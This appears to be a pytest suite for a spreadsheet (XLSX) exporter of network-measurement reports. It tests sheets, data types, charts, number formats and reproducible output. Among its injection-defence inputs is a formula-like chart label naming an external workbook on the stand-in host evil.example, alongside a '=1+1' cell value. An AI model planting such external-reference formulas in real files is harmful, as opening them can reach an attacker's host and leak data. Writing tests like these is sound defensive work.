"""A document becomes a spreadsheet: a sheet a table, charts that can be changed, no formula that was a text."""

import dataclasses
import io
import re
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from apps.reports.document import Drawing, Figure, Section
from apps.reports.files import spreadsheet
from apps.reports.files.spreadsheet import axes, styles
from tests.comparison.figures import charts
from tests.reports import documents
from tests.reports.files.test_pdf import IMPRINT


@pytest.fixture(scope="session")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the spreadsheet of a document with every kind of block and of chart."""
    figures = tuple(Figure(name, f"={name}", chart) for name, chart in charts.ALL.items())
    document = documents.document()
    whole = dataclasses.replace(document, sections=(*document.sections, Section("all", "All", blocks=figures)))
    folder = tmp_path_factory.mktemp("sheets")
    for name in ("a.xlsx", "b.xlsx"):
        spreadsheet.render(whole, IMPRINT, folder / name, lambda _share: None)
    return folder / "a.xlsx"


@pytest.fixture(scope="session")
def book(made: Path) -> openpyxl.Workbook:
    """Return it as another program reads it."""
    return openpyxl.load_workbook(io.BytesIO(made.read_bytes()))


def test_each_table_figure_and_drawing_has_a_sheet(book: openpyxl.Workbook) -> None:
    assert book.sheetnames == ["Report", "Figure 1", "Table 1", *(f"Figure {number}" for number in range(2, 9))]


def test_a_table_keeps_numbers_and_times_as_such_and_texts_as_texts(book: openpyxl.Workbook) -> None:
    rows = [[cell.value for cell in row] for row in book["Table 1"].iter_rows()]
    assert rows[0][0] == "Rates <by> client & direction"
    assert [row[0] for row in rows[1:3]] == ["Five flows each.", "The first 3 of 7 rows are shown."]
    assert rows[4:] == [
        ["Client", "Sent (Mbit/s)", "At (UTC)"],
        ["KGFS", 980, datetime(2026, 11, 21, 10)],
        ["KIGFS", 986.5, None],
        ["=1+1", None, datetime(2026, 11, 21, 11)],
    ]
    assert book["Table 1"]["A8"].data_type == "s"


def test_a_long_note_stands_in_several_rows(tmp_path: Path) -> None:
    noted = dataclasses.replace(documents.TABLE, note="One of many words. " * 20, total=0)
    document = dataclasses.replace(documents.document(), sections=(Section("s", "S", blocks=(noted,)),))
    spreadsheet.render(document, IMPRINT, tmp_path / "a.xlsx", lambda _share: None)
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["Table 1"]
    texts = [str(row[0].value or "") for row in sheet.iter_rows()]
    assert max(map(len, texts)) <= 110
    assert " ".join(texts[1 : texts.index("")]) == ("One of many words. " * 20).strip()


def test_no_cell_anywhere_is_a_formula(made: Path) -> None:
    with zipfile.ZipFile(made) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 10
    assert not any(b"<f>" in sheet for sheet in sheets)


@pytest.mark.parametrize(
    "text", ["='\\\\evil.example\\share\\[x.xlsx]S'!$A$1", "WAN!A1", "=WAN!$B2", "a\nb!AB12 and more"]
)
def test_no_name_in_a_chart_is_a_formula(text: str, tmp_path: Path) -> None:
    def renamed(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: text if key == "label" else renamed(part) for key, part in value.items()}
        return [renamed(part) for part in value] if isinstance(value, list | tuple) else value

    blocks = tuple(Figure(name, text, renamed(chart)) for name, chart in charts.ALL.items())
    document = dataclasses.replace(documents.document(), sections=(Section("s", "S", blocks=blocks),))
    spreadsheet.render(document, IMPRINT, tmp_path / "a.xlsx", lambda _share: None)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        drawn = [archive.read(name).decode() for name in archive.namelist() if "/charts/chart" in name]
    places = [place for chart in drawn for place in re.findall(r"<c:f>([^<]*)</c:f>", chart)]
    assert places
    assert [place for place in places if not re.fullmatch(r"'Figure \d+'![$A-Z\d:]+", place)] == []


def test_series_and_their_intervals_are_native_charts(made: Path) -> None:
    with zipfile.ZipFile(made) as archive:
        drawn = [archive.read(name).decode() for name in sorted(archive.namelist()) if "/charts/chart" in name]
    # Of the line, of that over words and over time, and of the boxes; and the document's own.
    assert len(drawn) == 5
    assert sum("<c:scatterChart>" in chart for chart in drawn) == 3
    assert sum("<c:errBars>" in chart for chart in drawn) >= 3
    assert all("'Figure" in chart for chart in drawn)


def test_the_words_and_the_edition_stand_on_the_first_sheet(book: openpyxl.Workbook) -> None:
    texts = [str(cell.value) for row in book["Report"].iter_rows() for cell in row if cell.value is not None]
    for text in ("Windows between KISTI and 부산대", "r-7k3m-9qxt-2v4h", "Purpose", "Why & what.", "• first"):
        assert text in texts
    assert any(text.startswith("Edition 3 · 2026-11-22") for text in texts)


def test_the_same_document_gives_the_same_bytes(made: Path) -> None:
    assert made.read_bytes() == (made.parent / "b.xlsx").read_bytes()


def test_a_drawing_is_a_picture(made: Path, tmp_path: Path) -> None:
    drawing = Drawing("t", "Network", documents.SVG, "Two sites")
    document = dataclasses.replace(documents.document(), sections=(Section("s", "S", blocks=(drawing,)),))
    spreadsheet.render(document, IMPRINT, tmp_path / "a.xlsx", lambda _share: None)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert archive.read("xl/media/image1.png").startswith(b"\x89PNG")


@pytest.mark.parametrize(
    ("values", "shown"),
    [
        ([983.04, 0.5], "0.0"),
        ([3, 5], "0"),
        ([123456.0], "#,##0"),
        ([0.0123], "0.00000"),
        ([1e-7], "0.00E+00"),
        ([], "0"),
    ],
)
def test_a_column_is_rounded_for_the_eye_only(values: list[float], shown: str) -> None:
    assert styles.number_format(values, 4) == shown


def test_an_axis_of_sizes_has_powers_of_two_and_one_of_moments_has_dates() -> None:
    sizes = [65536, 1048576]
    window = axes.axis_of(charts.LINE["x"], sizes)
    told = axes.options(window, charts.LINE["x"], sizes)
    assert (window.title, told["log_base"], told["min"], told["max"]) == ("Window (KiB)", 2, 64, 1024)
    assert axes.axis_of(charts.TIME["x"], [0]).of(86_400) == 25_570
